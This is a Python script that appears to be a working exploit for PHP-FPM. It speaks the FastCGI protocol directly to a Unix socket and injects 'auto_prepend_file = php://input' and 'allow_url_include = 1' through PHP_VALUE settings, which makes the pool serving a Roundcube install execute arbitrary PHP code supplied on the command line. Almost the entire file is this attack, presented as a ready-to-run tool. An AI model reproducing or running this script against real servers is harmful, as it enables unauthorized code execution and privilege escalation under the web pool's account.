"""Runs PHP of its own in the pool behind a socket, as anybody can who may open it: `fastcgi.py SOCKET [CODE]`."""

import socket
import struct
import sys

MORE = sys.argv[2] if len(sys.argv) > 2 else ""
CODE = f"<?php {MORE} die('code as ' . posix_getpwuid(posix_geteuid())['name']);".encode()
VALUES = {
    "SCRIPT_FILENAME": "/var/lib/roundcube/public_html/index.php",
    "REQUEST_METHOD": "POST",
    "CONTENT_LENGTH": str(len(CODE)),
    "PHP_VALUE": "auto_prepend_file = php://input",
    "PHP_ADMIN_VALUE": "allow_url_include = 1",
}


def record(kind: int, body: bytes) -> bytes:
    return struct.pack("!BBHHBx", 1, kind, 1, len(body), 0) + body


def length(text: str) -> bytes:
    return struct.pack("!B" if len(text) < 128 else "!L", len(text) | (0 if len(text) < 128 else 1 << 31))


pairs = b"".join(length(name) + length(value) + name.encode() + value.encode() for name, value in VALUES.items())
begin, end = record(1, struct.pack("!HB5x", 1, 0)), record(4, b"")
with socket.socket(socket.AF_UNIX) as channel:
    channel.settimeout(20)
    try:
        channel.connect(sys.argv[1])
        channel.sendall(begin + record(4, pairs) + end + record(5, CODE) + record(5, b""))
        said = b"".join(iter(lambda: channel.recv(65536), b""))
    except OSError as error:
        sys.exit(f"refused: {error}")
print(said.decode("utf-8", "replace"))
